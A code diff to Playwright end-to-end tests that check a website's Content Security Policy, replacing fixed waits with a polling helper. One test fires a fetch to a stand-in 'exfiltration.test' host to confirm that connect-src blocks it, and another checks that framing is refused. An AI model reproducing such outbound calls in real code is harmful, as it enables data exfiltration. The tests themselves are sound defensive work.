@@ -16,6 +16,7 @@ from playwright.sync_api import BrowserContext, ConsoleMessage, Page, expect
 
 from tests.documents.samples import SAMPLES
 from tests.e2e.registration import submit_registration
+from tests.waiting import page_wait_until
 
 # Runs in every document before its own scripts, so no violation slips by unseen.
 _REPORT_VIOLATIONS = """
@@ -90,8 +91,11 @@ def test_the_site_works_under_its_policy(site: str, browser: Any, artifacts: Pat
     assert watched.violations == []
     # The watch does see a refusal: a script sending data to another host is stopped.
     page.evaluate("fetch('http://exfiltration.test/').catch(() => null)")
-    page.wait_for_timeout(500)  # the report reaches Python through an exposed binding
-    assert any("connect-src" in v and "exfiltration.test" in v for v in watched.violations)
+    page_wait_until(  # the report reaches Python through an exposed binding
+        page,
+        "the connect-src violation reported",
+        lambda: any("connect-src" in v and "exfiltration.test" in v for v in watched.violations),
+    )
     watched.context.close()
 
 
@@ -164,6 +168,7 @@ def _other_site(site: str) -> Iterator[str]:
     finally:
         server.shutdown()
         thread.join()
+        server.server_close()
 
 
 def test_another_site_cannot_frame_the_site(site: str, browser: Any) -> None:
@@ -177,11 +182,9 @@ def test_another_site_cannot_frame_the_site(site: str, browser: Any) -> None:
         expect(page.frame_locator("#own").get_by_text("Page du même site")).to_be_visible()
         victim = page.locator("#victim").element_handle().content_frame()
         assert victim is not None
-        for _ in range(100):  # the browser swaps in its error page once the headers arrive
-            if victim.url.startswith("chrome-error://"):
-                break
-            page.wait_for_timeout(100)
-        assert victim.url.startswith("chrome-error://"), victim.url
+        page_wait_until(  # the browser swaps in its error page once the headers arrive
+            page, "the refused frame's error page", lambda: victim.url.startswith("chrome-error://")
+        )
         assert page.frame_locator("#victim").get_by_text("Dernières offres").count() == 0
     assert any("frame-ancestors 'none'" in text for text in messages), messages
     context.close()
